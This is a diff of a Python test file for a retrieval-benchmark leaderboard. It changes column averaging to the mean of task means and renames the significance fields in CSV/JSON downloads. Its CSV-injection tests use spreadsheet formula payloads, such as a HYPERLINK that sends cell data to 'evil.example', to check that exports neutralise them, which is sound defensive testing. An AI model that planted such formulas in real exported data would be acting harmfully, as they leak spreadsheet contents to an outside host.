@@ -1,4 +1,5 @@
-"""One statistic per cell: what a view shows, sorts by and tests is the same quantity."""
+"""One statistic per cell: what a view shows, sorts by and tests is the same quantity, the
+column's declared convention."""
 
 from __future__ import annotations
 
@@ -16,10 +17,9 @@ from leaderboard.standings import (
     Row,
     column_value,
     fill_view,
-    load_rows,
-    query_counts,
     rank_systems,
     tier_tables,
+    unit_scores,
 )
 from leaderboard.standings.downloads import csv_cell, csv_text, view_records
 
@@ -62,19 +62,25 @@ def test_no_tiered_column_marks_a_leader_that_is_not_its_best_verified_value(
     assert checked >= 50  # FollowTable and PI-Indic T1-T3 views of the two baselines
 
 
-def test_followtable_c1_shows_ranks_and_tests_the_pooled_mean(committed_board) -> None:
+def test_followtable_c1_shows_and_tests_the_mean_of_the_dataset_means(committed_board) -> None:
+    """The constraint views average the four datasets as the paper does (each dataset one
+    quarter), and the test's units average to exactly that value."""
     table = committed_board.tables["followtable/constraint/C1"]
     index = table.view.tiered_column
     rows = {r.key: r for r in table.rows}
+    column = table.view.columns[index]
     for key in ("bm25s", "all-minilm-l6-v2"):
         system = rows[key].system
-        pooled = []
-        for task_id in table.view.columns[index].tasks:
+        means = []
+        for task_id in column.tasks:
             scores = system.tasks[task_id]
             members = set(scores.group_members["C1"])
-            pooled += [v for q, v in scores.per_query["IRS"].items() if q in members]
-        assert table.values[key][index] == pytest.approx(math.fsum(pooled) / len(pooled),
-                                                         abs=1e-12)
+            pairs = [v for q, v in scores.per_query["IRS"].items() if q in members]
+            means.append(math.fsum(pairs) / len(pairs))
+        assert table.values[key][index] == pytest.approx(math.fsum(means) / 4, abs=1e-12)
+        units = unit_scores(system, column)
+        assert math.fsum(units.values()) / len(units) == pytest.approx(
+            math.fsum(means) / 4, abs=1e-12)
     assert table.leader().key == table.rows[0].key
 
 
@@ -108,25 +114,29 @@ def _uneven_pair() -> tuple[SystemResult, SystemResult]:
     return a, b
 
 
-def test_an_average_column_shows_the_pooled_mean_not_the_mean_of_task_means() -> None:
+def test_an_average_column_shows_and_tests_the_mean_of_task_means() -> None:
+    """FollowTable's averages are the mean of the four dataset figures (Tables 4 and 5):
+    a wins the small task by far and loses the big one by a little, so it leads on the
+    mean of task means, and the stratified test compares exactly that mean."""
     a, b = _uneven_pair()
-    assert column_value(a, TWO).value == pytest.approx((4 * 0.9 + math.fsum(
-        a.tasks["followtable/wqt"].per_query["IRS"].values())) / 64)
+    mean_a = (0.9 + math.fsum(a.tasks["followtable/wqt"].per_query["IRS"].values()) / 60) / 2
+    assert column_value(a, TWO).value == pytest.approx(mean_a)
+    units = unit_scores(a, TWO)
+    assert len(units) == 64 and math.fsum(units.values()) / 64 == pytest.approx(mean_a)
     standings = rank_systems({"a": a, "b": b}, TWO)
-    assert standings.order[0] == standings.leader == "b"
-    assert standings.values["b"] > standings.values["a"]
+    assert standings.order[0] == standings.leader == "a"
+    assert standings.values["a"] > standings.values["b"]
 
 
-def test_reported_rows_weigh_tasks_by_their_queries() -> None:
-    a, _ = _uneven_pair()
+def test_reported_and_verified_rows_follow_one_convention() -> None:
+    """A reported row's average is the plain mean of its task figures, as a verified
+    row's is: no query-count weighting only one kind of row gets."""
     paper = _system("paper", figures={"followtable/wtr": 1.0, "followtable/wqt": 0.0},
                     reported=True)
-    counts = query_counts([a], TWO)
-    assert counts == {"followtable/wtr": 4, "followtable/wqt": 60}
-    cell = column_value(paper, TWO, counts)
-    assert cell.value == pytest.approx(4 / 64) and cell.basis == "weighted"
-    # without counts a reported row says its value is a plain mean of task figures
-    assert column_value(paper, TWO).basis == "unweighted"
+    cell = column_value(paper, TWO)
+    assert cell.value == pytest.approx(0.5) and cell.basis == "mean of tasks"
+    a, _ = _uneven_pair()
+    assert column_value(a, TWO).basis == "mean of tasks"
 
 
 def _table_of(systems: list[SystemResult]) -> object:
@@ -140,8 +150,9 @@ def _table_of(systems: list[SystemResult]) -> object:
 def test_view_table_sorts_and_tiers_on_the_shown_value() -> None:
     a, b = _uneven_pair()
     table = _table_of([a, b])
-    assert [r.key for r in table.rows] == ["b", "a"]
-    assert table.leader().key == "b"
+    assert [r.key for r in table.rows] == ["a", "b"]
+    assert table.leader().key == "a"
+    assert [line.key for line in table.lines] == ["a", "b"]
 
 
 # --------------------------------------------------------------------------- downloads
@@ -151,15 +162,17 @@ def test_downloads_hold_raw_and_adjusted_p_difference_and_interval() -> None:
     c = _system("c", {t: {q: v - 0.05 for q, v in s.per_query["IRS"].items()}
                       for t, s in b.tasks.items()})
     header, records = view_records(_table_of([a, b, c]), lambda row: "scored")
-    for field in ("tier", "p_value", "p_adjusted", "effect_vs_leader", "ci_low", "ci_high"):
+    for field in ("tier", "p_value", "p_adjusted", "diff_vs_best_verified", "ci_low",
+                  "ci_high"):
         assert f"IRS {field}" in header
     by_id = {r["system_id"]: r for r in records}
-    assert by_id["b"]["IRS tier"] == "leader" and by_id["b"]["IRS p_value"] is None
-    for sid in ("a", "c"):
+    assert by_id["a"]["IRS tier"] == "best verified" and by_id["a"]["IRS p_value"] is None
+    for sid in ("b", "c"):
         r = by_id[sid]
         assert 0 < r["IRS p_value"] <= r["IRS p_adjusted"] <= 1
-        assert r["IRS ci_low"] - 1e-12 <= r["IRS effect_vs_leader"] <= r["IRS ci_high"] + 1e-12
-        assert r["IRS effect_vs_leader"] == pytest.approx(r["IRS"] - by_id["b"]["IRS"])
+        assert (r["IRS ci_low"] - 1e-12 <= r["IRS diff_vs_best_verified"]
+                <= r["IRS ci_high"] + 1e-12)
+        assert r["IRS diff_vs_best_verified"] == pytest.approx(r["IRS"] - by_id["a"]["IRS"])
 
 
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3",
@@ -210,19 +223,20 @@ def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -
 
     a, b = _uneven_pair()
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    a = a.model_copy(update={"model": ModelInfo(name=hostile)})
-    b = _system("b", {t: {q: v - 1.0 for q, v in s.per_query["IRS"].items()}
-                      for t, s in b.tasks.items()})  # negative IRS
+    b = b.model_copy(update={"model": ModelInfo(name=hostile)})
+    a = _system("a", {t: {q: v - 1.0 for q, v in s.per_query["IRS"].items()}
+                      for t, s in a.tasks.items()})  # negative IRS
     table = _table_of([a, b])
     write_downloads(table, tmp_path)
     with (tmp_path / f"{table.view.anchor}.csv").open(encoding="utf-8") as fh:
         records = {r["system_id"]: r for r in csv.DictReader(fh)}
-    assert records["a"]["model"] == "'" + hostile
-    assert float(records["b"]["IRS"]) < 0 and not records["b"]["IRS"].startswith("'")
-    assert float(records["b"]["IRS effect_vs_leader"]) < 0
+    assert records["b"]["model"] == "'" + hostile
+    assert float(records["a"]["IRS"]) < 0 and not records["a"]["IRS"].startswith("'")
+    assert float(records["a"]["IRS diff_vs_best_verified"]) < 0
     for field in ("p_value", "p_adjusted", "ci_low", "ci_high"):
-        assert records["b"][f"IRS {field}"] != ""
+        assert records["a"][f"IRS {field}"] != ""
     doc = json.loads((tmp_path / f"{table.view.anchor}.json").read_text(encoding="utf-8"))
-    row = next(r for r in doc["rows"] if r["system_id"] == "a")
+    row = next(r for r in doc["rows"] if r["system_id"] == "b")
     assert row["model"] == hostile  # JSON is data, not a spreadsheet: kept as is
-    assert "each query once" in doc["statistic"]
+    assert "best verified" in doc["statistic"]
+    assert doc["view"]["columns"][0]["convention"] == "mean of tasks"
